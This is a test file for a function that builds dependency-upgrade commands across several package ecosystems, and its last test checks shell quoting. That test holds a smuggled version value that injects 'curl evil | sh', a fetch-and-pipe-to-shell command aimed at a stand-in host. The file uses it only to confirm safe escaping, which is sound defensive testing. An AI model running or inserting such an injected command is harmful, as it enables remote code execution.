import { expect, test } from 'vitest';
import { fixCommand } from '../../../../../src/web/pages/alerts/detail/fix-command.js';

test.each([
  ['npm', '@scope/name', '2.0.0', 'npm install @scope/name@2.0.0'],
  ['PyPI', 'jinja2', '3.1.6', 'pip install jinja2==3.1.6'],
  ['Go', 'golang.org/x/net', '0.38.0', 'go get golang.org/x/net@v0.38.0'],
  ['Go', 'golang.org/x/net', 'v0.38.0', 'go get golang.org/x/net@v0.38.0'],
  ['crates.io', 'time', '0.2.23', 'cargo update --package time --precise 0.2.23'],
  ['RubyGems', 'rack', '3.1.16', 'bundle update --conservative rack'],
  ['NuGet', 'Newtonsoft.Json', '13.0.1', 'dotnet add package Newtonsoft.Json --version 13.0.1'],
  ['Packagist', 'twig/twig', '3.14.0', "composer require 'twig/twig:^3.14.0'"],
] as const)('%s %s %s', (ecosystem, name, to, command) => {
  expect(fixCommand({ ecosystem, name, to })).toBe(command);
});

test('Maven names the artifact and the version', () => {
  const command = fixCommand({ ecosystem: 'Maven', name: 'org.a:b', to: '2.0' });
  expect(command).toBe('mvn versions:use-dep-version -Dincludes=org.a:b -DdepVersion=2.0 -DforceVersion=true');
});

test('what a shell could read as more than a word is quoted', () => {
  const command = fixCommand({ ecosystem: 'npm', name: 'a', to: "1; curl evil | sh '" });
  expect(command).toBe(`npm install 'a@1; curl evil | sh '\\'''`);
});
